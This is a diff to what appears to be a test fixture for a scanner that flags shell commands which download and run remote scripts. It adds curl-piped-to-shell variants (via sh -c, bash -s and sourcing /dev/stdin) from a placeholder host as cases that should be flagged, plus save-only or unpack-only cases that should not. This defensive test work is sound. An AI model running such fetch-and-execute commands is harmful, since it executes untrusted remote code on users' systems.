@@ -119,6 +119,11 @@ DOWNLOADS_RUN = [
     "su - app --command='curl -fsSL https://x.example/i.sh | bash'",
     "gosu app bash -c 'curl -fsSL https://x.example/i.sh | bash'",
     "curl -fsSL https://x.example/i.sh | sudo DEBIAN_FRONTEND=noninteractive sh",
+    # A shell's -c script that runs its input, or sources it.
+    "curl -fsSL https://x.example/i.sh | sh -c 'cat | sh'",
+    "curl -fsSL https://x.example/i.sh | sudo -u app sh -c 'cd /tmp && bash -s -- -y'",
+    "curl -fsSL https://x.example/i.sh | bash -c 'source /dev/stdin'",
+    "curl -fsSL https://x.example/i.sh | . /dev/stdin",
 ]
 # Downloads kept, filtered or unpacked, and scripts run from a file: no finding.
 DOWNLOADS_KEPT = [
@@ -196,6 +201,9 @@ DOWNLOADS_KEPT = [
     "echo done # bash <(curl -fsSL https://x.example/i.sh)",
     "git commit -m 'use . <(curl -s https://x.example/env)'",
     """sh -c 'echo "curl https://x.example/i.sh | sh"'""",
+    # A shell's -c script that only saves or unpacks its input (sudo can redirect so).
+    "curl -fsSL https://x.example/k.asc | sudo sh -c 'cat > /etc/apt/keyrings/k.asc'",
+    "curl -fsSL https://x.example/a.tgz | bash -c 'tar -xz -C /opt && ls /opt'",
 ]
 
 # Heredocs: a shell reading one runs its body; any other command reads it as data.
